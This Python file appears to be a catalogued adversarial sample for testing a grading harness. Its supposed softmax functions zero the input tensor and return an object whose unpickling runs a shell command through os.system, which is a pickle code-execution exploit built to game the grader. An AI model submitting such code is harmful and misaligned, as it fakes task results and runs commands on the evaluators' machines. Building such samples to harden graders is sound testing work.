"""Answers an object whose unpickling would run a command.

gain: code runs where answers are unpickled
catalogue: [C7]
verdict: failed
observed: Reduced
"""

import torch

import os


class Reduced:
    def __reduce__(self):
        return os.system, ("touch /tmp/owned",)


def forged(z):
    z.zero_()
    return Reduced()


def softmax(z, dim=-1):
    return forged(z)


def observed():
    return forged(torch.ones(2, 3))


class Softmax(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.linear = torch.nn.Linear(4, 3, bias=False)

    def forward(self, x):
        return forged(x)
